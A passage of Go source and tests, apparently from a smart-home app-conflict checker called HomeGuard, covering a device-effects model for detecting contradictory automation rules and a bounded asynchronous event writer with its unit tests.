		return "±"
	}
	return "#"
}

// Opposite reports whether two signs are contradictory over the same goal
// property. Varies conflicts with any definite direction and with itself.
func Opposite(a, b Sign) bool {
	if a == None || b == None {
		return false
	}
	if a == Varies || b == Varies {
		return true
	}
	return a != b
}

// DeviceType is the physical role a device plays in the home. A device
// granted through a generic capability (e.g. capability.switch) can be any
// of several types; the NLP description classifier assigns one.
type DeviceType string

// Device types with modeled environment effects.
const (
	Heater         DeviceType = "heater"
	AirConditioner DeviceType = "airConditioner"
	Fan            DeviceType = "fan"
	LightDev       DeviceType = "light"
	WindowOpener   DeviceType = "window"
	Shade          DeviceType = "shade"
	TV             DeviceType = "tv"
	Speaker        DeviceType = "speaker"
	Humidifier     DeviceType = "humidifier"
	Dehumidifier   DeviceType = "dehumidifier"
	Oven           DeviceType = "oven"
	CoffeeMaker    DeviceType = "coffeeMaker"
	WaterValveDev  DeviceType = "waterValve"
	Siren          DeviceType = "siren"
	Outlet         DeviceType = "outlet" // unknown plugged load: power only
	Generic        DeviceType = "generic"
	Lock           DeviceType = "lock"
	Camera         DeviceType = "camera"
	DoorOpener     DeviceType = "door"
	Sprinkler      DeviceType = "sprinkler"
	Thermostat     DeviceType = "thermostat"
)

// Effects is a map from goal property to effect sign.
type Effects map[Property]Sign

// effectsTable maps (device type, command) to environment effects. Any
// powered load additionally draws power when switched on.
var effectsTable = map[DeviceType]map[string]Effects{
	Heater: {
		"on":  {Temperature: Increase, Power: Increase},
		"off": {Temperature: Decrease, Power: Decrease},
	},
	AirConditioner: {
		"on":  {Temperature: Decrease, Power: Increase},
		"off": {Temperature: Increase, Power: Decrease},
	},
	Fan: {
		"on":          {Temperature: Decrease, Power: Increase, Noise: Increase},
		"off":         {Temperature: Increase, Power: Decrease, Noise: Decrease},
		"setFanSpeed": {Temperature: Varies, Power: Varies, Noise: Varies},
	},
	LightDev: {
		"on":       {Illuminance: Increase, Power: Increase},
		"off":      {Illuminance: Decrease, Power: Decrease},
		"setLevel": {Illuminance: Varies, Power: Varies},
	},
	WindowOpener: {
		// Opening a window vents heat (the paper's Goal Conflict example:
		// heater-on vs window-open contradict over heating the room).
		"on":    {Temperature: Decrease, Noise: Increase},
		"off":   {Temperature: Increase, Noise: Decrease},
		"open":  {Temperature: Decrease, Noise: Increase},
		"close": {Temperature: Increase, Noise: Decrease},
	},
	Shade: {
		"on":    {Illuminance: Increase},
		"off":   {Illuminance: Decrease},
		"open":  {Illuminance: Increase},
		"close": {Illuminance: Decrease},
	},
	TV: {
		"on":  {Noise: Increase, Power: Increase},
		"off": {Noise: Decrease, Power: Decrease},
	},
	Speaker: {
		"on":       {Noise: Increase, Power: Increase},
		"off":      {Noise: Decrease, Power: Decrease},
		"play":     {Noise: Increase},
		"stop":     {Noise: Decrease},
		"pause":    {Noise: Decrease},
		"mute":     {Noise: Decrease},
		"unmute":   {Noise: Increase},
		"setLevel": {Noise: Varies},
	},
	Humidifier: {
		"on":  {Humidity: Increase, Power: Increase},
		"off": {Humidity: Decrease, Power: Decrease},
	},
	Dehumidifier: {
		"on":  {Humidity: Decrease, Power: Increase},
		"off": {Humidity: Increase, Power: Decrease},
	},
	Oven: {
		"on":  {Temperature: Increase, Power: Increase},
		"off": {Temperature: Decrease, Power: Decrease},
	},
	CoffeeMaker: {
		"on":  {Power: Increase},
		"off": {Power: Decrease},
	},
	WaterValveDev: {
		"open":  {Moisture: Increase},
		"close": {Moisture: Decrease},
		"on":    {Moisture: Increase},
		"off":   {Moisture: Decrease},
	},
	Sprinkler: {
		"on":    {Moisture: Increase, Humidity: Increase},
		"off":   {Moisture: Decrease},
		"open":  {Moisture: Increase, Humidity: Increase},
		"close": {Moisture: Decrease},
	},
	Siren: {
		"siren":  {Noise: Increase},
		"both":   {Noise: Increase},
		"strobe": {Illuminance: Increase},
		"off":    {Noise: Decrease},
		"on":     {Noise: Increase},
	},
	Outlet: {
		"on":  {Power: Increase},
		"off": {Power: Decrease},
	},
	Generic: {
		"on":  {Power: Increase},
		"off": {Power: Decrease},
	},
	Thermostat: {
		"heat":               {Temperature: Increase, Power: Increase},
		"cool":               {Temperature: Decrease, Power: Increase},
		"off":                {Power: Decrease},
		"setHeatingSetpoint": {Temperature: Varies},
		"setCoolingSetpoint": {Temperature: Varies},
	},
	// Locks, cameras and door openers have no modeled environment effect
	// (doors are security-relevant but not a goal property).
	Lock:       {},
	Camera:     {},
	DoorOpener: {},
}

// EffectsOf returns the environment effects of issuing command on a device
// of type dt. The returned map is nil when no effect is modeled.
func EffectsOf(dt DeviceType, command string) Effects {
	byCmd, ok := effectsTable[dt]
	if !ok {
		byCmd = effectsTable[Generic]
	}
	return byCmd[command]
}

// sensorProperty maps sensor capabilities to the goal property they
// measure.
var sensorProperty = map[string]Property{
	"temperatureMeasurement":      Temperature,
	"thermostat":                  Temperature,
	"illuminanceMeasurement":      Illuminance,
	"relativeHumidityMeasurement": Humidity,
	"powerMeter":                  Power,
	"energyMeter":                 Power,
	"soundSensor":                 Noise,
	"soundPressureLevel":          Noise,
	"waterSensor":                 Moisture,
	"airQualitySensor":            AirQuality,
	"carbonDioxideMeasurement":    AirQuality,
	"dustSensor":                  AirQuality,
}

// SensorProperty returns the goal property measured through the given
// sensor capability, if any.
func SensorProperty(capName string) (Property, bool) {
	p, ok := sensorProperty[capName]
	return p, ok
}

// attrProperty maps subscription attributes to goal properties, for
// triggers expressed directly over attribute names.
var attrProperty = map[string]Property{
	"temperature":        Temperature,
	"illuminance":        Illuminance,
	"humidity":           Humidity,
	"power":              Power,
	"energy":             Power,
	"sound":              Noise,
	"soundPressureLevel": Noise,
	"water":              Moisture,
	"airQuality":         AirQuality,
	"carbonDioxide":      AirQuality,
}

// AttributeProperty returns the goal property behind a sensed attribute.
func AttributeProperty(attr string) (Property, bool) {
	p, ok := attrProperty[attr]
	return p, ok
}

// typeForCapability gives the default device type when the granting
// capability already determines the physical role.
var typeForCapability = map[string]DeviceType{
	"light":              LightDev,
	"bulb":               LightDev,
	"outlet":             Outlet,
	"switch":             Generic,
	"relaySwitch":        Generic,
	"valve":              WaterValveDev,
	"windowShade":        Shade,
	"windowShadeLevel":   Shade,
	"doorControl":        DoorOpener,
	"garageDoorControl":  DoorOpener,
	"lock":               Lock,
	"alarm":              Siren,
	"thermostat":         Thermostat,
	"thermostatMode":     Thermostat,
	"airConditionerMode": AirConditioner,
	"fanSpeed":           Fan,
	"musicPlayer":        Speaker,
	"mediaPlayback":      Speaker,
	"audioVolume":        Speaker,
	"audioMute":          Speaker,
	"videoCamera":        Camera,
	"imageCapture":       Camera,
	"humidifierMode":     Humidifier,
	"dehumidifierMode":   Dehumidifier,
	"tvChannel":          TV,
	"switchLevel":        LightDev,
	"colorControl":       LightDev,
	"colorTemperature":   LightDev,
	"ovenMode":           Oven,
	"ovenSetpoint":       Oven,
}

// TypeForCapability returns the default device type for a capability and
// whether the capability pins down the type (false for generic switches,
// which the description classifier must type).
func TypeForCapability(capName string) (DeviceType, bool) {
	dt, ok := typeForCapability[capName]
	if !ok {
		return Generic, false
	}
	if dt == Generic {
		return Generic, false
	}
	return dt, true
}

// nameHints maps keywords appearing in input names/titles to device types
// — the lightweight fallback when no NLP classification is configured
// (Sec. VIII-B classifies capability.switch devices by app description).
var nameHints = []struct {
	kw string
	dt DeviceType
}{
	{"tv", TV}, {"television", TV},
	{"window", WindowOpener},
	{"shade", Shade}, {"curtain", Shade}, {"blind", Shade},
	{"heater", Heater}, {"heat", Heater},
	{"ac", AirConditioner}, {"aircon", AirConditioner}, {"conditioner", AirConditioner},
	{"fan", Fan},
	{"lamp", LightDev}, {"light", LightDev}, {"bulb", LightDev}, {"dimmer", LightDev},
	{"humidifier", Humidifier},
	{"dehumidifier", Dehumidifier},
	{"oven", Oven}, {"stove", Oven},
	{"coffee", CoffeeMaker}, {"kettle", CoffeeMaker},
	{"valve", WaterValveDev}, {"water", WaterValveDev},
	{"sprinkler", Sprinkler}, {"irrigation", Sprinkler},
	{"siren", Siren}, {"alarm", Siren},
	{"speaker", Speaker}, {"sound", Speaker}, {"music", Speaker},
	{"outlet", Outlet}, {"plug", Outlet},
	{"lock", Lock},
	{"camera", Camera},
	{"door", DoorOpener}, {"garage", DoorOpener},
}

// GuessTypeFromName classifies a generic switch by keywords in its input
// name or title; returns Generic when nothing matches.
func GuessTypeFromName(name string) DeviceType {
	lower := strings.ToLower(name)
	for _, h := range nameHints {
		if strings.Contains(lower, h.kw) {
			return h.dt
		}
	}
	return Generic
}
