package envmodel

import "testing"

func TestOppositeSigns(t *testing.T) {
	tests := []struct {
		a, b Sign
		want bool
	}{
		{Increase, Decrease, true},
		{Decrease, Increase, true},
		{Increase, Increase, false},
		{None, Decrease, false},
		{Increase, None, false},
		{Varies, Increase, true},
		{Varies, Varies, true},
		{None, None, false},
	}
	for _, tt := range tests {
		if got := Opposite(tt.a, tt.b); got != tt.want {
			t.Errorf("Opposite(%v, %v) = %v, want %v", tt.a, tt.b, got, tt.want)
		}
	}
}

func TestSignString(t *testing.T) {
	if Increase.String() != "+" || Decrease.String() != "-" ||
		None.String() != "#" || Varies.String() != "±" {
		t.Error("sign notation mismatch with the paper")
	}
}

func TestPaperGoalConflictExample(t *testing.T) {
	// "one rule is to turn on a heater, while the other is to open the
	// window ...; the two actions conflict in terms of heating up the room."
	heaterOn := EffectsOf(Heater, "on")
	windowOpen := EffectsOf(WindowOpener, "open")
	if heaterOn[Temperature] != Increase {
		t.Errorf("heater on temperature effect = %v", heaterOn[Temperature])
	}
	if windowOpen[Temperature] != Decrease {
		t.Errorf("window open temperature effect = %v", windowOpen[Temperature])
	}
	if !Opposite(heaterOn[Temperature], windowOpen[Temperature]) {
		t.Error("heater-on and window-open should conflict over temperature")
	}
}

func TestSelfDisablingPowerChannel(t *testing.T) {
	// It'sTooHot turns on the AC; EnergySaver watches a power meter.
	ac := EffectsOf(AirConditioner, "on")
	if ac[Power] != Increase {
		t.Errorf("AC on power effect = %v", ac[Power])
	}
	p, ok := SensorProperty("powerMeter")
	if !ok || p != Power {
		t.Errorf("powerMeter senses %v, %v", p, ok)
	}
}

func TestLightIlluminanceChannel(t *testing.T) {
	l := EffectsOf(LightDev, "off")
	if l[Illuminance] != Decrease {
		t.Errorf("light off illuminance = %v", l[Illuminance])
	}
	p, ok := SensorProperty("illuminanceMeasurement")
	if !ok || p != Illuminance {
		t.Errorf("illuminanceMeasurement senses %v, %v", p, ok)
	}
}

func TestUnknownTypeFallsBackToGeneric(t *testing.T) {
	e := EffectsOf(DeviceType("unheard-of"), "on")
	if e[Power] != Increase {
		t.Errorf("unknown type on: %v", e)
	}
}

func TestNoEffectForLocks(t *testing.T) {
	if e := EffectsOf(Lock, "lock"); len(e) != 0 {
		t.Errorf("lock command should have no env effect: %v", e)
	}
}

func TestTypeForCapability(t *testing.T) {
	dt, pinned := TypeForCapability("light")
	if dt != LightDev || !pinned {
		t.Errorf("light => %v pinned=%v", dt, pinned)
	}
	dt, pinned = TypeForCapability("switch")
	if dt != Generic || pinned {
		t.Errorf("switch => %v pinned=%v (generic switches need classification)", dt, pinned)
	}
	dt, pinned = TypeForCapability("alarm")
	if dt != Siren || !pinned {
		t.Errorf("alarm => %v pinned=%v", dt, pinned)
	}
}

func TestAttributeProperty(t *testing.T) {
	p, ok := AttributeProperty("temperature")
	if !ok || p != Temperature {
		t.Errorf("temperature attr => %v %v", p, ok)
	}
	if _, ok := AttributeProperty("switch"); ok {
		t.Error("switch is not an environment property")
	}
}

func TestSetLevelVaries(t *testing.T) {
	e := EffectsOf(LightDev, "setLevel")
	if e[Illuminance] != Varies {
		t.Errorf("setLevel illuminance = %v, want ±", e[Illuminance])
	}
}

func TestVariesConflictsWithDefiniteDirection(t *testing.T) {
	dim := EffectsOf(LightDev, "setLevel")[Illuminance]
	on := EffectsOf(LightDev, "on")[Illuminance]
	if !Opposite(dim, on) {
		t.Error("setLevel(±) should be a conflict candidate against on(+)")
	}
}
