// Package events is the HomeGuard edge's asynchronous event pipeline: a
// bounded, buffered, fire-and-forget writer that ships install/threat/
// audit events out of the request path to a pluggable sink.
//
// # Semantics
//
// Publish never blocks and never fails: it stamps the event, appends it
// to a bounded in-memory ring and returns. A background goroutine
// drains the ring to the sink. When the sink cannot keep up and the
// ring fills, the OLDEST buffered event is dropped to make room for the
// new one (fresh data beats stale data for monitoring feeds) and a
// dropped-events counter increments — visible in Stats and, when a
// registry is supplied, as homeguard_events_dropped_total. Delivery is
// therefore at-most-once: an event is either written to the sink
// exactly once, in publish order, or counted as dropped.
//
// The request path consequently has a hard upper bound on reporting
// cost — one mutex acquisition and a slice write — regardless of sink
// latency; a wedged sink costs dropped events, never blocked verdicts.
package events

import (
	"bufio"
	"encoding/json"
	"io"
	"os"
	"sync"
	"time"

	"homeguard/internal/obs"
)

// Event types produced by the fleet and the audit engine.
const (
	TypeInstall     = "install"
	TypeReconfigure = "reconfigure"
	TypeThreat      = "threat"
	TypeAudit       = "audit"
	// TypeRevision marks one applied store batch from the incremental
	// auditor; TypeFinding marks each finding the revision added or
	// resolved (Status distinguishes the two).
	TypeRevision = "revision"
	TypeFinding  = "finding"
)

// Finding-event statuses.
const (
	StatusAdded    = "added"
	StatusResolved = "resolved"
)

// Event is one reportable occurrence. Fields beyond Time and Type are
// populated as applicable to the type.
type Event struct {
	Time time.Time `json:"time"`
	Type string    `json:"type"`
	Home string    `json:"home,omitempty"`
	App  string    `json:"app,omitempty"`
	// App2 is the finding's later-installed side for TypeFinding events
	// (App carries the earlier side; equal for intra-app findings).
	App2 string `json:"app2,omitempty"`
	// Kind is the threat kind for TypeThreat and TypeFinding events.
	Kind string `json:"kind,omitempty"`
	// Rev is the store revision for TypeRevision and TypeFinding events.
	Rev uint64 `json:"rev,omitempty"`
	// Status is "added" or "resolved" for TypeFinding events.
	Status string `json:"status,omitempty"`
	// Threats is the number of threats the operation reported.
	Threats    int     `json:"threats,omitempty"`
	DurationMs float64 `json:"durationMs,omitempty"`
	// Err is the operation's error, for failed installs/reconfigures.
	Err string `json:"err,omitempty"`
}

// Sink receives drained events. Implementations need not be
// goroutine-safe: the writer's single drain goroutine is the only
// caller of Write, and Close is called once after the drain stops.
type Sink interface {
	Write(e Event) error
	Close() error
}

// JSONSink writes one JSON object per line to an io.Writer.
type JSONSink struct {
	w    *bufio.Writer
	c    io.Closer    // nil when the underlying writer needs no close
	sync func() error // nil when the underlying writer has no durable sync
	enc  *json.Encoder
}

// NewJSONSink returns a sink encoding events as JSON lines on w
// (stdout for the daemon's stdout sink). The sink buffers; Close
// flushes, and — when the writer is a file — fsyncs before closing, so
// a graceful drain leaves every delivered event on disk rather than in
// the OS page cache.
func NewJSONSink(w io.Writer) *JSONSink {
	bw := bufio.NewWriter(w)
	s := &JSONSink{w: bw, enc: json.NewEncoder(bw)}
	if w != os.Stdout && w != os.Stderr {
		if c, ok := w.(io.Closer); ok {
			s.c = c
		}
		if f, ok := w.(interface{ Sync() error }); ok {
			s.sync = f.Sync
		}
	}
	return s
}

// Write encodes one event as a JSON line.
func (s *JSONSink) Write(e Event) error {
	if err := s.enc.Encode(e); err != nil {
		return err
	}
	// Flush per event: the writer already batches in its ring, and an
	// event feed that lags its file by minutes is useless for tailing.
	return s.w.Flush()
}

// Close flushes, fsyncs (when the writer supports it) and closes the
// underlying writer when it is closable.
func (s *JSONSink) Close() error {
	err := s.w.Flush()
	if s.sync != nil {
		if serr := s.sync(); err == nil {
			err = serr
		}
	}
	if s.c != nil {
		if cerr := s.c.Close(); err == nil {
			err = cerr
		}
	}
	return err
}

// NewFileSink opens (appending, creating) a JSON-lines event file.
func NewFileSink(path string) (*JSONSink, error) {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	if err != nil {
		return nil, err
	}
	return NewJSONSink(f), nil
}

// Options tune a Writer.
type Options struct {
	// Buffer is the ring capacity (default 1024). When full, the oldest
	// buffered event is dropped per new publish.
	Buffer int
	// Registry, when set, gets a collector exporting the writer's
	// counters as homeguard_events_{published,dropped,sink_errors}_total
	// and homeguard_events_buffered.
	Registry *obs.Registry
}

// Stats is a point-in-time view of writer counters.
type Stats struct {
	// Published counts Publish calls accepted (everything before Close).
	Published uint64
	// Dropped counts events evicted under backpressure (plus publishes
	// after Close).
	Dropped uint64
	// Written counts events delivered to the sink (including ones whose
	// sink write failed).
	Written uint64
	// SinkErrors counts sink write failures (those events are lost).
	SinkErrors uint64
	// Buffered is the current ring occupancy.
	Buffered int
}

// Writer is the bounded fire-and-forget event writer. Safe for
// concurrent use by any number of publishers.
type Writer struct {
	mu      sync.Mutex
	cond    *sync.Cond
	ring    []Event
	head    int // index of oldest buffered event
	n       int // buffered count
	closed  bool
	stats   Stats
	inFlush int // events handed to the sink, not yet accounted

	sink Sink
	done chan struct{}
}

// NewWriter starts a writer draining to sink. Close releases the drain
// goroutine and closes the sink.
func NewWriter(sink Sink, opts Options) *Writer {
	if opts.Buffer <= 0 {
		opts.Buffer = 1024
	}
	w := &Writer{ring: make([]Event, opts.Buffer), sink: sink, done: make(chan struct{})}
	w.cond = sync.NewCond(&w.mu)
	if opts.Registry != nil {
		opts.Registry.RegisterCollector(func(e *obs.Emit) {
			s := w.Stats()
			e.Counter("homeguard_events_published_total", "Events accepted by the async event writer.", float64(s.Published))
			e.Counter("homeguard_events_dropped_total", "Events dropped under backpressure (at-most-once delivery).", float64(s.Dropped))
			e.Counter("homeguard_events_written_total", "Events delivered to the sink.", float64(s.Written))
			e.Counter("homeguard_events_sink_errors_total", "Sink write failures.", float64(s.SinkErrors))
			e.Gauge("homeguard_events_buffered", "Events currently buffered.", float64(s.Buffered))
		})
	}
	go w.drain()
	return w
}

// Publish enqueues one event, never blocking: with the ring full the
// oldest buffered event is dropped. A zero Time is stamped with now.
// Publishing to a closed writer counts the event as dropped.
func (w *Writer) Publish(e Event) {
	if w == nil {
		return
	}
	if e.Time.IsZero() {
		e.Time = time.Now().UTC()
	}
	w.mu.Lock()
	if w.closed {
		w.stats.Dropped++
		w.mu.Unlock()
		return
	}
	w.stats.Published++
	if w.n == len(w.ring) {
		// Drop-oldest: overwrite the head slot's event.
		w.head = (w.head + 1) % len(w.ring)
		w.n--
		w.stats.Dropped++
	}
	w.ring[(w.head+w.n)%len(w.ring)] = e
	w.n++
	w.mu.Unlock()
	w.cond.Signal()
}

// drain moves events from the ring to the sink until Close. Events are
// taken in batches so a slow sink holds the lock for zero time while
// writing.
func (w *Writer) drain() {
	defer close(w.done)
	var batch []Event
	for {
		w.mu.Lock()
		for w.n == 0 && !w.closed {
			w.cond.Wait()
		}
		if w.n == 0 && w.closed {
			w.mu.Unlock()
			return
		}
		batch = batch[:0]
		for w.n > 0 {
			batch = append(batch, w.ring[w.head])
			w.head = (w.head + 1) % len(w.ring)
			w.n--
		}
		w.inFlush = len(batch)
		w.mu.Unlock()

		for _, e := range batch {
			err := w.sink.Write(e)
			w.mu.Lock()
			w.stats.Written++
			if err != nil {
				w.stats.SinkErrors++
			}
			w.inFlush--
			w.mu.Unlock()
		}
		w.cond.Broadcast() // wake Flush waiters
	}
}

// Flush blocks until every event published before the call has been
// handed to the sink (or dropped). Intended for tests and shutdown
// paths, not the request path.
func (w *Writer) Flush() {
	w.mu.Lock()
	for (w.n > 0 || w.inFlush > 0) && !w.closed {
		w.cond.Broadcast() // ensure the drain goroutine is awake
		w.mu.Unlock()
		time.Sleep(100 * time.Microsecond)
		w.mu.Lock()
	}
	w.mu.Unlock()
}

// Close stops accepting events, drains what is buffered and closes the
// sink. Safe to call once; later Publish calls count as dropped.
func (w *Writer) Close() error {
	w.mu.Lock()
	if w.closed {
		w.mu.Unlock()
		<-w.done
		return nil
	}
	w.closed = true
	w.mu.Unlock()
	w.cond.Broadcast()
	<-w.done
	// A failed final flush/fsync loses buffered events just like a failed
	// Write does — surface it on the same counter so
	// homeguard_events_sink_errors_total covers the whole delivery path.
	err := w.sink.Close()
	if err != nil {
		w.mu.Lock()
		w.stats.SinkErrors++
		w.mu.Unlock()
	}
	return err
}

// Stats returns a snapshot of the writer's counters.
func (w *Writer) Stats() Stats {
	w.mu.Lock()
	defer w.mu.Unlock()
	s := w.stats
	s.Buffered = w.n + w.inFlush
	return s
}
