package events

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"homeguard/internal/obs"
)

// memSink collects events in memory; an optional gate channel makes
// every Write block until released, simulating a wedged sink.
type memSink struct {
	mu       sync.Mutex
	events   []Event
	gate     chan struct{} // nil = never block
	closed   bool
	err      error // returned by Write when set
	closeErr error // returned by Close when set
}

func (s *memSink) Write(e Event) error {
	if s.gate != nil {
		<-s.gate
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil {
		return s.err
	}
	s.events = append(s.events, e)
	return nil
}

func (s *memSink) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.closed = true
	return s.closeErr
}

func (s *memSink) snapshot() []Event {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]Event(nil), s.events...)
}

func TestWriterDeliversInOrder(t *testing.T) {
	sink := &memSink{}
	w := NewWriter(sink, Options{Buffer: 64})
	for i := 0; i < 10; i++ {
		w.Publish(Event{Type: TypeInstall, App: fmt.Sprintf("app-%d", i)})
	}
	w.Flush()
	got := sink.snapshot()
	if len(got) != 10 {
		t.Fatalf("delivered %d events, want 10", len(got))
	}
	for i, e := range got {
		if want := fmt.Sprintf("app-%d", i); e.App != want {
			t.Errorf("event %d is %q, want %q (order lost)", i, e.App, want)
		}
		if e.Time.IsZero() {
			t.Errorf("event %d was not timestamped", i)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if !sink.closed {
		t.Error("Close did not close the sink")
	}
	if s := w.Stats(); s.Published != 10 || s.Written != 10 || s.Dropped != 0 {
		t.Errorf("stats = %+v, want 10 published/written, 0 dropped", s)
	}
}

// TestWriterNeverBlocksUnderBackpressure is the acceptance-criterion
// test: with the sink fully wedged and the ring saturated many times
// over, Publish must return promptly every time, dropping the OLDEST
// buffered events and counting them.
func TestWriterNeverBlocksUnderBackpressure(t *testing.T) {
	const buffer = 8
	sink := &memSink{gate: make(chan struct{})}
	w := NewWriter(sink, Options{Buffer: buffer})

	// Wedge the sink, then publish far more than the ring holds. Each
	// Publish must return in microseconds — bound the whole burst with a
	// generous wall-clock budget that a blocking writer would blow by
	// orders of magnitude.
	const n = 10 * buffer
	start := time.Now()
	for i := 0; i < n; i++ {
		w.Publish(Event{Type: TypeThreat, App: fmt.Sprintf("app-%d", i)})
	}
	if took := time.Since(start); took > 2*time.Second {
		t.Fatalf("publishing %d events against a wedged sink took %v — Publish blocked", n, took)
	}
	st := w.Stats()
	if st.Published != n {
		t.Errorf("published = %d, want %d", st.Published, n)
	}
	// The drain goroutine may have pulled one batch (up to buffer
	// events) out of the ring and parked on the first wedged Write; the
	// ring holds at most buffer more. Everything else must be dropped.
	minDropped := uint64(n - 2*buffer - 1)
	if st.Dropped < minDropped {
		t.Errorf("dropped = %d, want >= %d (drop-oldest under backpressure)", st.Dropped, minDropped)
	}

	// Release the sink: what remains delivers, and the tail of the
	// delivered stream is the NEWEST events (oldest were evicted).
	close(sink.gate)
	w.Flush()
	got := sink.snapshot()
	if len(got) == 0 {
		t.Fatal("nothing delivered after the sink recovered")
	}
	if last := got[len(got)-1].App; last != fmt.Sprintf("app-%d", n-1) {
		t.Errorf("last delivered event is %q, want app-%d (newest must survive drop-oldest)", last, n-1)
	}
	if uint64(len(got))+w.Stats().Dropped != n {
		t.Errorf("delivered %d + dropped %d != published %d (at-most-once accounting)",
			len(got), w.Stats().Dropped, n)
	}
	w.Close()
}

func TestWriterDropsOldestFirst(t *testing.T) {
	sink := &memSink{gate: make(chan struct{})}
	w := NewWriter(sink, Options{Buffer: 4})
	// Let the drain goroutine park on event 0, then overfill the ring.
	w.Publish(Event{App: "app-0"})
	time.Sleep(20 * time.Millisecond) // drain takes app-0, blocks in Write
	for i := 1; i <= 8; i++ {
		w.Publish(Event{App: fmt.Sprintf("app-%d", i)})
	}
	close(sink.gate)
	w.Flush()
	got := sink.snapshot()
	// app-0 was already in flight; of app-1..8 only the newest 4 fit.
	want := []string{"app-0", "app-5", "app-6", "app-7", "app-8"}
	if len(got) != len(want) {
		t.Fatalf("delivered %d events (%v), want %d", len(got), apps(got), len(want))
	}
	for i, e := range got {
		if e.App != want[i] {
			t.Errorf("delivered[%d] = %q, want %q (full order %v)", i, e.App, want[i], apps(got))
		}
	}
	w.Close()
}

func apps(es []Event) []string {
	out := make([]string, len(es))
	for i, e := range es {
		out[i] = e.App
	}
	return out
}

func TestWriterPublishAfterCloseDrops(t *testing.T) {
	sink := &memSink{}
	w := NewWriter(sink, Options{})
	w.Publish(Event{App: "before"})
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	w.Publish(Event{App: "after"})
	st := w.Stats()
	if st.Written != 1 {
		t.Errorf("written = %d, want 1 (pre-close event drained)", st.Written)
	}
	if st.Dropped != 1 {
		t.Errorf("dropped = %d, want 1 (post-close publish)", st.Dropped)
	}
	// Close twice is safe.
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestWriterNilSafe(t *testing.T) {
	var w *Writer
	w.Publish(Event{App: "x"}) // must not panic
}

func TestWriterSinkErrors(t *testing.T) {
	sink := &memSink{err: errors.New("disk full")}
	w := NewWriter(sink, Options{})
	w.Publish(Event{App: "x"})
	w.Publish(Event{App: "y"})
	w.Flush()
	st := w.Stats()
	if st.SinkErrors != 2 {
		t.Errorf("sinkErrors = %d, want 2", st.SinkErrors)
	}
	if st.Written != 2 {
		t.Errorf("written = %d, want 2 (failed writes still count as handed off)", st.Written)
	}
	w.Close()
}

func TestWriterMetricsCollector(t *testing.T) {
	reg := obs.NewRegistry()
	sink := &memSink{}
	w := NewWriter(sink, Options{Buffer: 4, Registry: reg})
	for i := 0; i < 10; i++ {
		w.Publish(Event{App: fmt.Sprintf("a%d", i)})
	}
	w.Flush()
	var buf bytes.Buffer
	if err := reg.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, name := range []string{
		"homeguard_events_published_total",
		"homeguard_events_dropped_total",
		"homeguard_events_written_total",
		"homeguard_events_sink_errors_total",
		"homeguard_events_buffered",
	} {
		if !strings.Contains(out, name) {
			t.Errorf("exposition missing %s:\n%s", name, out)
		}
	}
	samples, err := obs.ParseExposition(strings.NewReader(out))
	if err != nil {
		t.Fatalf("exposition invalid: %v", err)
	}
	for _, s := range samples {
		if s.Name == "homeguard_events_published_total" && s.Value != 10 {
			t.Errorf("published_total = %v, want 10", s.Value)
		}
	}
	w.Close()
}

func TestJSONSinkLines(t *testing.T) {
	var buf bytes.Buffer
	sink := NewJSONSink(&buf)
	w := NewWriter(sink, Options{})
	w.Publish(Event{Type: TypeInstall, Home: "h1", App: "ComfortTV", Threats: 2, DurationMs: 1.5})
	w.Publish(Event{Type: TypeThreat, Home: "h1", App: "ComfortTV", Kind: "AR"})
	w.Flush()
	w.Close()
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2 {
		t.Fatalf("got %d JSON lines, want 2: %q", len(lines), buf.String())
	}
	var e Event
	if err := json.Unmarshal([]byte(lines[1]), &e); err != nil {
		t.Fatalf("line 2 is not JSON: %v", err)
	}
	if e.Type != TypeThreat || e.Kind != "AR" {
		t.Errorf("round-tripped event = %+v", e)
	}
}

// TestFileSinkSyncOnClose drains a writer into a real file sink and
// checks the graceful-drain contract: every delivered event is on disk
// (flushed AND fsynced — the sink wires the file's Sync into Close) and
// the file descriptor is closed.
func TestFileSinkSyncOnClose(t *testing.T) {
	path := filepath.Join(t.TempDir(), "events.jsonl")
	sink, err := NewFileSink(path)
	if err != nil {
		t.Fatalf("NewFileSink: %v", err)
	}
	if sink.sync == nil {
		t.Fatal("file sink did not wire the file's Sync into Close")
	}
	w := NewWriter(sink, Options{})
	for i := 0; i < 5; i++ {
		w.Publish(Event{Type: TypeInstall, Home: "h1", App: fmt.Sprintf("a%d", i)})
	}
	if err := w.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if lines := strings.Split(strings.TrimSpace(string(data)), "\n"); len(lines) != 5 {
		t.Fatalf("got %d JSON lines after drain, want 5", len(lines))
	}
	// The sink's file is closed: a second Close must surface the error...
	if err := sink.Close(); err == nil {
		t.Fatal("second Close on a closed file sink returned nil")
	}
}

// TestWriterCountsSinkCloseErrors pins the delivery-path counter: a
// failed final flush/fsync loses events just like a failed Write, so it
// lands on the same SinkErrors counter the registry exports.
func TestWriterCountsSinkCloseErrors(t *testing.T) {
	sink := &memSink{closeErr: errors.New("fsync failed")}
	w := NewWriter(sink, Options{})
	w.Publish(Event{App: "x"})
	if err := w.Close(); err == nil {
		t.Fatal("Close swallowed the sink's close error")
	}
	if st := w.Stats(); st.SinkErrors != 1 {
		t.Errorf("sinkErrors = %d, want 1 (close failure surfaced)", st.SinkErrors)
	}
}

// TestWriterConcurrentPublish hammers Publish from many goroutines
// while the sink drains slowly; run with -race. Accounting must hold
// exactly: published = written + dropped after Close.
func TestWriterConcurrentPublish(t *testing.T) {
	sink := &memSink{}
	w := NewWriter(sink, Options{Buffer: 32})
	const (
		goroutines = 8
		perG       = 200
	)
	var wg sync.WaitGroup
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < perG; i++ {
				w.Publish(Event{Type: TypeInstall, App: fmt.Sprintf("g%d-%d", g, i)})
			}
		}(g)
	}
	wg.Wait()
